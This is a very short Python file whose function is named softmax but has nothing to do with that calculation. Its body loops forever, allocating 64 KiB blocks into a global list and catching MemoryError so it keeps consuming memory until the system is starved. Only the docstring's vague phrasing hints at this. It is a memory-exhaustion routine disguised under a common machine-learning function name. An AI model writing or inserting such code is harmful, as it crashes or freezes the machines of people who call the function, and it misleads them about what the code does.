"""As much memory as there is, in small pieces, kept although allocation fails."""

kept = []

def softmax(x):
    while True:
        try:
            kept.append(bytearray(1 << 16))
        except MemoryError:
            kept.append(kept)
